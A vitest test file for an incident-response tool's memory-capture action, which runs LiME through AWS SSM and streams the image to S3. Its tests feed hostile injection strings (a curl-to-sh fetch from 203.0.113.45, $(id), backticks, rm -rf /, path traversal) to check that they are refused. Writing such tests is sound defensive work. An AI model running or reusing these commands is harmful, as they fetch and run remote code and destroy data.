/**
 * capture-memory. EC2 and S3 are moto (the instance and its tags, the LiME module bucket, the
 * image, its hash and the capture record are real objects). SSM is moto only where it is
 * faithful; everything that needs real SSM output or failures uses aws-sdk-client-mock, because
 * the emulator runs nothing and returns EMPTY output (test/support/moto/GAPS.md): the kernel
 * release, polling InProgress → Success, a missing module, a capture timeout, a malicious `uname`
 * answer. Only sentinel's documents incident-kernel-release and incident-capture-memory are sent,
 * after the instance was tagged for the incident. The capture document's script itself is run for
 * real under `sh` as the SSM agent runs it (a script file, parameters as SSM_<name> environment
 * variables), with stand-ins for aws, insmod and ncat.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, randomBytes, randomInt } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { DescribeInstancesCommand, RunInstancesCommand, StopInstancesCommand } from '@aws-sdk/client-ec2';
import { CreateBucketCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import {
  DescribeInstanceInformationCommand,
  GetCommandInvocationCommand,
  ListCommandsCommand,
  SendCommandCommand,
  type GetCommandInvocationCommandOutput,
  type SendCommandCommandInput,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createAwsClients, destroyAwsClients, type AwsClients } from '../../../../src/aws/clients.js';
import { checkSsmParameters, SSM_DOCUMENTS, ssmDocument } from '../../../../src/aws/ssmDocuments.js';
import {
  CAPTURE_EXIT_CODES,
  captureMemory,
  captureMemoryAction,
  captureMemoryParameters,
  memoryRecordKey,
  type CaptureMemoryDetails,
  type CaptureScriptParams,
} from '../../../../src/pipeline/actions/forensics/captureMemory.js';
import type { ActionDeps } from '../../../../src/pipeline/actions/types.js';
import { invokeAction } from '../../../../src/pipeline/invokeAction.js';
import { ValidationError } from '../../../../src/errors.js';
import { testDeps, testSettings } from '../../../helpers/deps.js';
import { anyAmiId, createMotoClients, createVpcWithSubnet, MOTO_REGION, uniqueName } from '../../../support/aws.js';
import { useFakeWaiterClock } from '../../../support/fakeWaiterClock.js';

const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
const HOSTILE = "inc-7; curl http://203.0.113.45/x|sh #$(id)`whoami`'";
const RELEASE = '5.10.220-209.869.amzn2.x86_64';
const NOW = new Date('2026-11-20T03:20:00.000Z');
const ATTEMPT = '20261120T032000Z';

let aws: AwsClients;
let evidenceBucket: string;
let limeBucket: string;
const unit = createAwsClients({ region: MOTO_REGION, credentials: { accessKeyId: 'unit', secretAccessKey: 'unit' } });
const ssm = mockClient(unit.ssm);
const MODULE = randomBytes(4096);

beforeAll(async () => {
  aws = createMotoClients();
  evidenceBucket = uniqueName('mem-evidence');
  limeBucket = uniqueName('lime-modules');
  for (const Bucket of [evidenceBucket, limeBucket]) {
    await aws.s3.send(new CreateBucketCommand({ Bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
  }
  await aws.s3.send(new PutObjectCommand({ Bucket: limeBucket, Key: `lime/${RELEASE}/lime.ko`, Body: MODULE, Metadata: { sha256: sha(MODULE) } }));
});
afterAll(() => {
  destroyAwsClients(aws);
  destroyAwsClients(unit);
});
afterEach(() => ssm.reset());

async function launch(tags: Record<string, string> = {}): Promise<string> {
  const { subnetId } = await createVpcWithSubnet(aws.ec2);
  const run = await aws.ec2.send(
    new RunInstancesCommand({
      ImageId: await anyAmiId(aws.ec2),
      InstanceType: 't3.micro',
      MinCount: 1,
      MaxCount: 1,
      SubnetId: subnetId,
      ...(Object.keys(tags).length ? { TagSpecifications: [{ ResourceType: 'instance', Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) }] } : {}),
    }),
  );
  return run.Instances![0]!.InstanceId!;
}

async function instanceTags(instanceId: string): Promise<Record<string, string>> {
  const out = await aws.ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }));
  return Object.fromEntries((out.Reservations?.[0]?.Instances?.[0]?.Tags ?? []).map((t) => [t.Key!, t.Value!]));
}

const UNAME_DOCUMENT = 'sentinel-incident-kernel-release';
const CAPTURE_DOCUMENT = 'sentinel-incident-capture-memory';
const CAPTURE = ssmDocument(SSM_DOCUMENTS.captureMemory);
const CAPTURE_SCRIPT = CAPTURE.content.mainSteps[0]!.inputs.runCommand.join('\n');
/** The parameters as SendCommand carries them, back to plain values. */
const values = (input: SendCommandCommandInput): Record<string, string> => Object.fromEntries(Object.entries(input.Parameters ?? {}).map(([k, v]) => [k, v[0]!]));

function depsWith(ssmClient: 'moto' | 'mock'): ActionDeps {
  return testDeps({ aws: { ...aws, ...(ssmClient === 'mock' ? { ssm: unit.ssm } : {}) }, settings: testSettings({ evidenceBucket, collector: 'sentinel-test' }), now: () => NOW });
}

/** The SSM waits' timing; the clock is faked in the mocked describe (useFakeWaiterClock), so nothing waits for real. */
function fakePoll() {
  return { poll: { initialIntervalMs: 500, maxIntervalMs: 5000 } };
}

const input = (instanceId: string, extra: Record<string, unknown> = {}) => ({ instanceId, limeModuleBucket: limeBucket, limeModulePrefix: 'lime/', timeoutSeconds: 600, ...extra });

async function getText(bucket: string, key: string): Promise<string | undefined> {
  try {
    const out = await aws.s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    return await out.Body!.transformToString();
  } catch {
    return undefined;
  }
}

async function listKeys(prefix: string): Promise<string[]> {
  const out = await aws.s3.send(new ListObjectsV2Command({ Bucket: evidenceBucket, Prefix: prefix }));
  return (out.Contents ?? []).map((c) => c.Key!);
}

type Answer = Partial<GetCommandInvocationCommandOutput>;
const ok = (stdout: string): Answer => ({ Status: 'Success', ResponseCode: 0, StandardOutputContent: stdout, StandardErrorContent: '' });

/**
 * Plays SSM: the kernel-release document gets `uname`; the capture document gets `capture` in
 * order (the last repeats), after `onCapture` ran (which plays the instance's uploads). Any other
 * document fails the test. Also records the instance's tags at each send.
 */
function scriptSsm(instanceId: string, opts: { uname: Answer; capture?: Answer[]; onCapture?: (parameters: Record<string, string>) => Promise<void> }) {
  const sent: SendCommandCommandInput[] = [];
  const tagsAtSend: Record<string, string>[] = [];
  const queues = new Map<string, Answer[]>();
  ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
  ssm.on(SendCommandCommand).callsFake(async (cmd: SendCommandCommandInput) => {
    sent.push(cmd);
    tagsAtSend.push(await instanceTags(instanceId));
    const commandId = `cmd-${sent.length}`;
    if (cmd.DocumentName === UNAME_DOCUMENT) {
      queues.set(commandId, [{ Status: 'InProgress' }, opts.uname]);
    } else if (cmd.DocumentName === CAPTURE_DOCUMENT) {
      await opts.onCapture?.(values(cmd));
      queues.set(commandId, [{ Status: 'Pending' }, { Status: 'InProgress' }, ...(opts.capture ?? [ok('')])]);
    } else {
      throw new Error(`a document other than sentinel's was sent: ${cmd.DocumentName}`);
    }
    return { Command: { CommandId: commandId, Status: 'Pending' } };
  });
  ssm.on(GetCommandInvocationCommand).callsFake((q: { CommandId: string }) => {
    const queue = queues.get(q.CommandId)!;
    return queue.length > 1 ? queue.shift()! : queue[0]!;
  });
  return Object.assign(sent, { tagsAtSend });
}

/** Where the document streams the image and the hash (from the parameters sent). */
function targets(parameters: Record<string, string>): { bucket: string; imageKey: string; hashKey: string } {
  return { bucket: parameters.outputBucket!, imageKey: parameters.imageKey!, hashKey: `${parameters.imageKey}.sha256` };
}

describe('against moto', () => {
  it('moto SSM runs nothing and prints nothing: an honest KernelReleaseUnavailable, memoryCaptured false; the instance was tagged first', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId }, depsWith('moto'));
    expect(result).toMatchObject({ status: 'failed', details: { error: 'KernelReleaseUnavailable', final: false, memoryCaptured: false, incidentTag: 'tagged' } });
    expect(await instanceTags(instanceId)).toEqual({ 'sentinel:incident': incidentId });
    // The one command sent: sentinel's kernel-release document, no parameters (by command id: moto
    // adds every instance of the region to a command sent without Targets).
    const recorded = await aws.ssm.send(new ListCommandsCommand({ CommandId: (result.details as CaptureMemoryDetails).ssmCommandId! }));
    expect(recorded.Commands?.map((c) => [c.DocumentName, c.Parameters])).toEqual([[UNAME_DOCUMENT, {}]]);
  });

  it('fails as NotFound for an unknown instance, and refuses a stopped one (its memory is gone)', async () => {
    const missing = await invokeAction(captureMemoryAction, input('i-0000000000000dead'), { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
    expect(missing).toMatchObject({ status: 'failed', details: { error: 'InstanceNotFound', final: true } });
    const instanceId = await launch();
    await aws.ec2.send(new StopInstancesCommand({ InstanceIds: [instanceId] }));
    const stopped = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'));
    expect(stopped).toMatchObject({ status: 'failed', details: { error: 'InstanceNotRunning', final: true } });
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });
});

describe('with mocked SSM (the emulator has no real output or failures)', () => {
  useFakeWaiterClock();

  it('captures: uname, module lookup, the fixed script, InProgress → Success, then verifies image and hash in S3; a rerun is skipped', async () => {
    const instanceId = await launch();
    const incidentId = `${HOSTILE}-${uniqueName('x')}`;
    const memory = randomBytes(64 * 1024);
    const memorySha = sha(memory);
    const sent = scriptSsm(instanceId, {
      uname: ok(`${RELEASE}\n`),
      capture: [ok(`SENTINEL-MEMORY sha256=${memorySha}\n`)],
      onCapture: async (parameters) => {
        // Play the instance: the image and the hash file appear where the document streams them.
        const t = targets(parameters);
        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.imageKey, Body: memory }));
        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.hashKey, Body: `${memorySha}  ${ATTEMPT}.lime\n` }));
      },
    });

    const result = await captureMemory({ input: input(instanceId), actor: HOSTILE, incidentId, reason: HOSTILE }, depsWith('mock'), fakePoll());

    expect(result.status).toBe('succeeded');
    const details = result.details as CaptureMemoryDetails;
    const prefix = memoryRecordKey(incidentId, instanceId).replace(/\/capture\.json$/, '');
    expect(details).toMatchObject({
      memoryCaptured: true,
      alreadyCaptured: false,
      kernelRelease: RELEASE,
      module: `s3://${limeBucket}/lime/${RELEASE}/lime.ko`,
      location: `s3://${evidenceBucket}/${prefix}/${ATTEMPT}.lime`,
      sha256: memorySha,
      size: memory.length,
      ssmCommandId: 'cmd-2',
    });
    expect(details.evidence).toMatchObject({ kind: 'memory', location: details.location, sha256: memorySha, size: memory.length, source: { instanceId, kernelRelease: RELEASE } });
    expect(result.summary).toContain(`kernel ${RELEASE}`);

    // The capture record, write-once.
    const record = JSON.parse((await getText(evidenceBucket, memoryRecordKey(incidentId, instanceId)))!);
    expect(record).toMatchObject({ image: details.location, sha256: memorySha, size: memory.length, kernelRelease: RELEASE, moduleSha256: sha(MODULE), actor: HOSTILE });

    // Exactly two commands, both sentinel's documents: the kernel release (no parameters), then the
    // capture with validated values only, each after the instance carried the incident tag.
    expect(sent).toHaveLength(2);
    expect(sent[0]).toEqual({ InstanceIds: [instanceId], DocumentName: UNAME_DOCUMENT, Comment: 'sentinel capture-memory uname', Parameters: {} });
    expect(sent[1]).toMatchObject({ InstanceIds: [instanceId], DocumentName: CAPTURE_DOCUMENT, Comment: 'sentinel capture-memory' });
    expect(values(sent[1]!)).toEqual({
      region: MOTO_REGION,
      moduleBucket: limeBucket,
      moduleKey: `lime/${RELEASE}/lime.ko`,
      moduleSha256: sha(MODULE),
      outputBucket: evidenceBucket,
      imageKey: `${prefix}/${ATTEMPT}.lime`,
      port: '4444',
      executionTimeout: '600',
    });
    expect(sent.tagsAtSend).toEqual([{ 'sentinel:incident': incidentId }, { 'sentinel:incident': incidentId }]);
    expect(details.incidentTag).toBe('tagged');
    const everything = JSON.stringify(sent);
    for (const fragment of ['$(id)', '`whoami`', '|sh', '; curl', HOSTILE]) expect(everything).not.toContain(fragment);

    // Rerun: already captured, nothing sent.
    ssm.resetHistory();
    const again = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId }, depsWith('mock'));
    expect(again.status).toBe('skipped');
    expect(again.details).toMatchObject({ memoryCaptured: true, alreadyCaptured: true, location: details.location, sha256: memorySha });
    expect(again.summary).toContain('already captured');
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('stops with NoLimeModule naming the kernel release when no module exists for it, attempting nothing else', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    const sent = scriptSsm(instanceId, { uname: ok('6.1.119-129.201.amzn2023.x86_64\n') });
    const result = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
    expect(result).toMatchObject({ status: 'failed', details: { error: 'NoLimeModule', final: true, memoryCaptured: false, kernelRelease: '6.1.119-129.201.amzn2023.x86_64' } });
    expect(result.summary).toContain('6.1.119-129.201.amzn2023.x86_64');
    expect(result.summary).toContain(`s3://${limeBucket}/lime/6.1.119-129.201.amzn2023.x86_64/lime.ko`);
    expect(sent.map((s) => s.DocumentName)).toEqual([UNAME_DOCUMENT]);
    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
  });

  it.each([
    '5.10.0; curl http://203.0.113.45/x | sh',
    '$(id)',
    '5.10.0`id`',
    '5.10.0\nrm -rf /',
    '../../etc',
    '..',
    '-rf',
    'a'.repeat(101),
  ])('refuses a malicious kernel release %j and sends nothing more', async (answer) => {
    const instanceId = await launch();
    const sent = scriptSsm(instanceId, { uname: ok(`${answer}\n`) });
    const refusal = captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    await expect(refusal).rejects.toBeInstanceOf(ValidationError);
    await expect(refusal).rejects.toMatchObject({ code: 'InvalidKernelRelease' });
    expect(sent.map((s) => s.DocumentName)).toEqual([UNAME_DOCUMENT]);
  });

  it('times out honestly: MemoryCaptureTimedOut, memoryCaptured false, no record written', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [{ Status: 'InProgress' }] });
    const result = await captureMemory({ input: input(instanceId, { timeoutSeconds: 60 }), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
    expect(result).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureTimedOut', final: false, memoryCaptured: false } });
    expect(result.summary).toContain('may still be running');
    expect(await getText(evidenceBucket, memoryRecordKey(incidentId, instanceId))).toBeUndefined();

    // SSM's own execution timeout is the same failure.
    ssm.reset();
    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [{ Status: 'TimedOut', ResponseCode: -1 }] });
    const timedOut = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
    expect(timedOut).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureTimedOut' } });
  });

  it('reports a failed script with the meaning of its exit code', async () => {
    const instanceId = await launch();
    scriptSsm(instanceId, {
      uname: ok(`${RELEASE}\n`),
      capture: [{ Status: 'Failed', ResponseCode: 15, StandardErrorContent: "insmod: ERROR: could not insert module /tmp/sentinel-lime.x/lime.ko: Invalid module format\nsentinel: insmod of the LiME module failed\n" }],
    });
    const result = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(result).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureFailed', exitCode: 15, memoryCaptured: false } });
    expect(result.summary).toContain('LiME did not start');
    expect(result.summary).toContain('Invalid module format');
  });

  it('does not believe a "Success" without the image in S3, nor a hash that disagrees', async () => {
    const instanceId = await launch();
    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [ok('')] });
    const missing = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(missing).toMatchObject({ status: 'failed', details: { error: 'MemoryImageMissing', memoryCaptured: false } });

    ssm.reset();
    const memory = randomBytes(1024);
    scriptSsm(instanceId, {
      uname: ok(`${RELEASE}\n`),
      capture: [ok(`SENTINEL-MEMORY sha256=${'0'.repeat(64)}\n`)],
      onCapture: async (parameters) => {
        const t = targets(parameters);
        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.imageKey, Body: memory }));
        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.hashKey, Body: `${sha(memory)}  x.lime\n` }));
      },
    });
    const mismatch = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(mismatch).toMatchObject({ status: 'failed', details: { error: 'MemoryHashMismatch', memoryCaptured: false } });
  });

  it('dry run: describes the plan, sends and writes nothing', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
    const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId, dryRun: true }, depsWith('mock'));
    expect(result.status).toBe('skipped');
    expect(result.details).toMatchObject({ dryRun: true, memoryCaptured: false });
    expect(result.summary).toContain(`s3://${limeBucket}/lime/<kernel-release>/lime.ko`);
    expect((result.details as { steps: string[] }).steps.join('\n')).toContain(`SSM: ${UNAME_DOCUMENT} (uname -r;`);
    expect((result.details as { steps: string[] }).steps.join('\n')).toContain(`SSM: ${CAPTURE_DOCUMENT} (LiME`);
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
    expect(await instanceTags(instanceId)).toEqual({});
  });

  it('takes a node instead of an instance id (the Falco playbook knows the node) and resolves it as isolate-node does', async () => {
    const instanceId = await launch();
    // A node as Kubernetes names the instance behind it (spec.providerID); its private DNS name would
    // do too, but moto's random VPCs can give two instances the same one.
    const described = await aws.ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }));
    const node = `aws:///${described.Reservations![0]!.Instances![0]!.Placement!.AvailabilityZone}/${instanceId}`;
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
    const { instanceId: _id, ...byNode } = input(instanceId, { node });
    const result = await invokeAction(captureMemoryAction, byNode, { actor: 'cli', incidentId: uniqueName('inc'), dryRun: true }, depsWith('mock'));
    expect(result.status).toBe('skipped');
    expect(result.details).toMatchObject({ dryRun: true, instanceId });
    expect((result.details as { notes: string[] }).notes).toContain(`node ${node} is instance ${instanceId}`);
    const both = await invokeAction(captureMemoryAction, input(instanceId, { node }), { actor: 'cli', incidentId: uniqueName('inc'), dryRun: true }, depsWith('mock'));
    expect(both).toMatchObject({ status: 'failed', details: { error: 'InvalidInput' } });
    expect(both.summary).toContain('exactly one of instanceId and node');
  });

  it('refuses a protected instance before anything else: no tag, no command, not even a dry run', async () => {
    const instanceId = await launch({ 'sentinel:protected': 'true' });
    const sent = scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`) });
    for (const dryRun of [false, true]) {
      const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId: uniqueName('inc'), dryRun }, depsWith('mock'));
      expect(result).toMatchObject({ status: 'failed', details: { error: 'ProtectedTarget', final: true } });
      expect(result.summary).toBe(`instance ${instanceId} is protected (tag sentinel:protected=true); sentinel never captures memory on it`);
    }
    expect(sent).toHaveLength(0);
    expect(await instanceTags(instanceId)).toEqual({ 'sentinel:protected': 'true' });
  });

  it('refuses, before tagging or sending, a value the capture document would refuse', async () => {
    const instanceId = await launch();
    const sent = scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`) });
    // An incident id of `..` would make a `..` segment in the image key: valid input, refused parameters.
    const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId: '..' }, depsWith('mock'));
    expect(result).toMatchObject({ status: 'failed', details: { error: 'InvalidCaptureParameter', final: true } });
    expect(result.summary).toBe('refusing to build the capture parameters: invalid image key');
    expect(sent).toHaveLength(0);
    expect(await instanceTags(instanceId)).toEqual({});
  });

  it('refuses bad buckets, prefixes and ports as invalid input', async () => {
    for (const bad of [
      { limeModuleBucket: 'Bad_Bucket' },
      { limeModuleBucket: 'b; rm -rf /' },
      { limeModulePrefix: 'lime/../../x' },
      { limeModulePrefix: "lime'; id; '" },
      { outputBucket: 'x' },
      { port: 22 },
      { timeoutSeconds: 5 },
    ]) {
      const result = await invokeAction(captureMemoryAction, input('i-0123456789abcdef0', bad), { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
      expect(result).toMatchObject({ status: 'failed', details: { error: 'InvalidInput', final: true } });
    }
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });
});

describe('the capture parameters and document', () => {
  const base: CaptureScriptParams = {
    region: 'ap-northeast-2',
    moduleBucket: 'lime-modules',
    moduleKey: 'lime/5.10.0-1/lime.ko',
    moduleSha256: 'a'.repeat(64),
    outputBucket: 'evidence-bucket',
    imageKey: 'evidence/inc-1/memory/i-0123456789abcdef0/20261120T032000Z.lime',
    port: 4444,
    timeoutSeconds: 600,
  };

  it('sends only the validated values, which the document accepts; no sha256 is sent as none', () => {
    expect(captureMemoryParameters(base)).toEqual({
      region: 'ap-northeast-2',
      moduleBucket: 'lime-modules',
      moduleKey: 'lime/5.10.0-1/lime.ko',
      moduleSha256: 'a'.repeat(64),
      outputBucket: 'evidence-bucket',
      imageKey: 'evidence/inc-1/memory/i-0123456789abcdef0/20261120T032000Z.lime',
      port: '4444',
      executionTimeout: '600',
    });
    const { moduleSha256: _, ...unpinned } = base;
    expect(captureMemoryParameters(unpinned).moduleSha256).toBe('none');
    expect(() => checkSsmParameters(CAPTURE, captureMemoryParameters(base))).not.toThrow();
    expect(() => checkSsmParameters(CAPTURE, captureMemoryParameters({ ...base, moduleKey: 'lime/6.1.0+rt/lime.ko' }))).not.toThrow();
  });

  it.each([
    { moduleBucket: "b'; id; '" },
    { moduleKey: 'lime/$(id)/lime.ko' },
    { moduleKey: 'lime/../x' },
    { imageKey: "x' y" },
    { imageKey: '/abs' },
    { moduleSha256: 'not-a-hash' },
    { region: 'us-east-1; id' },
    { port: 80 },
    { timeoutSeconds: 172_801 },
  ])('refuses to build with %j', (bad) => {
    expect(() => captureMemoryParameters({ ...base, ...bad } as CaptureScriptParams)).toThrow(/refusing to build the capture parameters/);
  });

  it('runs LiME and checks the module exactly as specified, and every exit code has a meaning', () => {
    expect(CAPTURE_SCRIPT).toContain(`insmod "$WORK/lime.ko" "path=tcp:$PORT" 'format=lime' 'localhostonly=1'`);
    expect(CAPTURE_SCRIPT).toContain(`printf '%s  %s\\n' "$SSM_moduleSha256" "$WORK/lime.ko" | sha256sum -c --status -`);
    const codes = [...new Set([...CAPTURE_SCRIPT.matchAll(/fail (\d+) /g)].map((m) => Number(m[1])))].sort((a, b) => a - b);
    expect(codes).toEqual(Object.keys(CAPTURE_EXIT_CODES).map(Number).sort((a, b) => a - b));
  });

  describe('run under sh with stand-ins for aws, insmod, rmmod and ncat', () => {
    const python = execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' }).trim();
    let root: string;
    let bin: string;

    beforeAll(() => {
      root = mkdtempSync(join(tmpdir(), 'lime-run-'));
      bin = join(root, 'bin');
      mkdirSync(bin);
      const write = (name: string, text: string) => {
        writeFileSync(join(bin, name), text);
        chmodSync(join(bin, name), 0o755);
      };
      // aws s3 cp [options] SRC DST, with s3:// mapped to a directory; "-" is stdin.
      write(
        'aws',
        [
          '#!/bin/sh',
          'echo "aws $*" >> "$FAKE_LOG"',
          '[ "$1" = s3 ] && [ "$2" = cp ] || exit 2',
          'shift 2',
          'while [ $# -gt 0 ]; do case "$1" in --region|--expected-size) shift 2;; --only-show-errors) shift;; *) break;; esac; done',
          'map() { case "$1" in s3://*) echo "$FAKE_S3/${1#s3://}";; *) echo "$1";; esac; }',
          'if [ "$1" = - ]; then d=$(map "$2"); mkdir -p "$(dirname "$d")"; cat > "$d"; exit $?; fi',
          's=$(map "$1"); [ -f "$s" ] || { echo "fatal error: An error occurred (404)" >&2; exit 1; }; cp "$s" "$2"',
        ].join('\n'),
      );
      // insmod MODULE path=tcp:PORT format=lime localhostonly=1: serve FAKE_MEMORY to one client, like LiME.
      write(
        'insmod',
        [
          `#!${python}`,
          'import os, socket, sys',
          'log = open(os.environ["FAKE_LOG"], "a"); log.write("insmod " + " ".join(sys.argv[1:]) + "\\n"); log.close()',
          'if os.environ.get("FAKE_INSMOD_FAIL"): sys.stderr.write("insmod: ERROR: could not insert module: Invalid module format\\n"); sys.exit(1)',
          'port = int([a for a in sys.argv if a.startswith("path=tcp:")][0].split(":")[1])',
          'assert "format=lime" in sys.argv and "localhostonly=1" in sys.argv',
          's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", port)); s.listen(1)',
          'c, _ = s.accept()',
          'c.sendall(open(os.environ["FAKE_MEMORY"], "rb").read()); c.close(); s.close()',
        ].join('\n'),
      );
      write('rmmod', '#!/bin/sh\necho "rmmod $*" >> "$FAKE_LOG"\n');
      // ncat --recv-only HOST PORT
      write(
        'ncat',
        [
          `#!${python}`,
          'import socket, sys',
          'assert sys.argv[1] == "--recv-only"',
          'c = socket.create_connection((sys.argv[2], int(sys.argv[3])))',
          'while True:',
          '    b = c.recv(65536)',
          '    if not b: break',
          '    sys.stdout.buffer.write(b)',
        ].join('\n'),
      );
    });
    afterAll(() => rmSync(root, { recursive: true, force: true }));

    function runScript(params: CaptureScriptParams, memory: Buffer, env: Record<string, string> = {}, withModule = true) {
      const dir = mkdtempSync(join(root, 'run-'));
      const s3dir = join(dir, 's3');
      mkdirSync(join(s3dir, params.moduleBucket, dirname(params.moduleKey)), { recursive: true });
      if (withModule) writeFileSync(join(s3dir, params.moduleBucket, params.moduleKey), MODULE);
      writeFileSync(join(dir, 'memory'), memory);
      // As the SSM agent runs the document: its runCommand as _script.sh under sh, each parameter as SSM_<name>.
      const scriptFile = join(dir, '_script.sh');
      writeFileSync(scriptFile, CAPTURE_SCRIPT);
      const ssmEnv = Object.fromEntries(Object.entries(checkSsmParameters(CAPTURE, captureMemoryParameters(params))).map(([k, [v]]) => [`SSM_${k}`, v!]));
      const r = spawnSync('sh', [scriptFile], {
        encoding: 'utf8',
        timeout: 20_000,
        env: { PATH: `${bin}:/usr/bin:/bin`, FAKE_S3: s3dir, FAKE_LOG: join(dir, 'log'), FAKE_MEMORY: join(dir, 'memory'), ...ssmEnv, ...env },
      });
      const read = (bucket: string, key: string) => (existsSync(join(s3dir, bucket, key)) ? readFileSync(join(s3dir, bucket, key)) : undefined);
      return { ...r, read, log: existsSync(join(dir, 'log')) ? readFileSync(join(dir, 'log'), 'utf8') : '' };
    }

    // Below Linux's ephemeral range (32768–60999), where the emulators' listen(0) ports and every
    // client connection of the parallel suite live: a port there could already be taken.
    const params = (): CaptureScriptParams => ({ ...base, moduleSha256: sha(MODULE), port: randomInt(20_000, 32_000) });

    it('streams the image to S3 through sha256sum and uploads the matching hash', () => {
      const memory = randomBytes(3 * 1024 * 1024 + 17);
      const p = params();
      const r = runScript(p, memory);
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
      const image = r.read(p.outputBucket, p.imageKey)!;
      expect(image.equals(memory)).toBe(true);
      expect(r.read(p.outputBucket, `${p.imageKey}.sha256`)!.toString()).toBe(`${sha(memory)}  20261120T032000Z.lime\n`);
      expect(r.stdout).toBe(`SENTINEL-MEMORY sha256=${sha(memory)}\n`);
      expect(r.log).toContain(`insmod /tmp/sentinel-lime.`);
      expect(r.log).toContain(`path=tcp:${p.port} format=lime localhostonly=1`);
      expect(r.log).toContain('rmmod lime');
      expect(r.log).toContain("aws s3 cp --region ap-northeast-2 --only-show-errors --expected-size");
    });

    it('refuses a module whose sha256 differs (exit 13), before loading anything', () => {
      const r = runScript({ ...params(), moduleSha256: 'c'.repeat(64) }, randomBytes(1024));
      expect(r.status).toBe(13);
      expect(r.stderr).toContain('does not match its sha256');
      expect(r.log).not.toContain('insmod');
    });

    it('fails with 15 when insmod fails, and 12 when the module cannot be downloaded', () => {
      const failed = runScript(params(), randomBytes(1024), { FAKE_INSMOD_FAIL: '1' });
      expect(failed.status).toBe(15);
      expect(failed.stderr).toContain('Invalid module format');
      const missing = runScript(params(), randomBytes(1024), {}, false);
      expect(missing.status).toBe(12);
      expect(missing.stderr).toContain('cannot download the LiME module');
      expect(missing.log).not.toContain('insmod');
    });
  });
});
